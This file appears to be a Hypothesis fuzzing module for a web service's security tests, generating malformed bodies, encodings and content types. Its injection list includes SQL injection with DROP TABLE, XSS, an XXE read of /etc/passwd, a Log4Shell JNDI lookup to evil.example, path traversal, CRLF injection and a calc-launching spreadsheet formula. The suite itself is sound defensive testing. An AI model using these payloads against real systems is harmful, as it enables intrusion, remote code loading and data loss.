"""Hostile input for the security suite: injection strings, broken encodings, odd bodies."""

from __future__ import annotations

import base64
import json
from typing import Any
from urllib.parse import quote

from hypothesis import strategies as st

INPUTS: dict[str, int] = {}  # inputs tried, per suite (printed at the end of the run)


def pct(value: str) -> str:
    """Percent-encode anything, lone surrogates included (they become invalid UTF-8)."""
    return quote(value.encode("utf-8", "surrogatepass"), safe="")


def tried(suite: str, n: int = 1) -> None:
    INPUTS[suite] = INPUTS.get(suite, 0) + n


INJECTIONS = (
    "' OR '1'='1",
    '"; DROP TABLE requests; --',
    "<script>alert(1)</script>",
    "<![CDATA[x]]><Response><Say>hi</Say></Response>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie:%20x=1",
    "\r\nX-Injected: 1",
    "\x00\x01\x02\x7f",
    "\ud800",
    "\u202egnp.exe",
    "😀" * 40,
    "A" * 5000,
    "attribute_not_exists(reference)",
    "#v = :expected",
    "$where: 1",
    '{"$gt": ""}',
    "=cmd|'/C calc'!A0",
    "begins_with(pk, :x)",
    "..%2f..%2f",
    "%ZZ%",
    "%",
    "+46701234567",
    "1234567897",
    "-1",
    "1e309",
    "NaN",
    "null",
    "true",
    "[]",
    "{}",
)

text = st.one_of(
    st.sampled_from(INJECTIONS),
    st.text(max_size=60),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=30),
    st.from_regex(r"[0-9 \-+]{0,16}", fullmatch=True),
)

json_scalar = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), text)
json_value = st.recursive(
    json_scalar,
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(text, inner, max_size=4)),
    max_leaves=12,
)


@st.composite
def json_objects(draw: Any, fields: tuple[str, ...] = ()) -> dict[str, Any]:
    """A JSON object that uses the route's own field names some of the time."""
    keys = st.one_of(st.sampled_from(fields), text) if fields else text
    return draw(st.dictionaries(keys, json_value, max_size=8))


@st.composite
def form_bodies(draw: Any, fields: tuple[str, ...] = ()) -> str:
    keys = st.one_of(st.sampled_from(fields), text) if fields else text
    pairs = draw(st.lists(st.tuples(keys, text), max_size=8))
    body = "&".join(f"{pct(k)}={pct(v)}" for k, v in pairs)
    if draw(st.booleans()):  # broken percent-encoding and raw bytes in the mix
        body += draw(st.sampled_from(["&a=%", "&%ZZ=1", "&b=%C3%28", "&c=%FF%FE", "&&&==", ";x"]))
    return body


CONTENT_TYPES = (
    "application/json",
    "application/x-www-form-urlencoded",
    "application/json; charset=utf-16",
    "text/plain",
    "application/xml",
    "multipart/form-data; boundary=x",
    "application/octet-stream",
    "application/cloudevents+json",
    "",
    "garbage/\x7f",
)


@st.composite
def bodies(draw: Any, fields: tuple[str, ...] = ()) -> tuple[str, bytes]:
    """(content type, body): well-formed, half-formed, mis-labelled and broken bodies."""
    kind = draw(
        st.sampled_from(
            ["json", "form", "json-as-form", "form-as-json", "bytes", "utf8-broken", "big", "none"]
        )
    )
    ctype = draw(st.sampled_from(CONTENT_TYPES))
    if kind == "json":
        value = draw(st.one_of(json_objects(fields), json_value))
        return "application/json", json.dumps(value).encode()
    if kind == "form":
        return "application/x-www-form-urlencoded", draw(form_bodies(fields)).encode()
    if kind == "json-as-form":
        return "application/x-www-form-urlencoded", json.dumps(draw(json_objects(fields))).encode()
    if kind == "form-as-json":
        return "application/json", draw(form_bodies(fields)).encode()
    if kind == "bytes":
        return ctype, draw(st.binary(max_size=200))
    if kind == "utf8-broken":
        prefix = draw(st.sampled_from([b'{"a": "', b"a=", b"Body=", b""]))
        return ctype, prefix + draw(st.sampled_from([b"\xc3\x28", b"\xff\xfe", b"\xed\xa0\x80"]))
    if kind == "big":
        size = draw(st.sampled_from([16_385, 40_000, 300_000]))
        return ctype or "application/json", b'{"description": "' + b"x" * size + b'"}'
    return ctype, b""


def b64_garbage() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(["!!!", "YQ", "YQ=", "====", "a" * 7, "\u00e9t\u00e9"]),
        st.binary(max_size=40).map(lambda b: base64.b64encode(b).decode()[:-1] + "*"),
    )
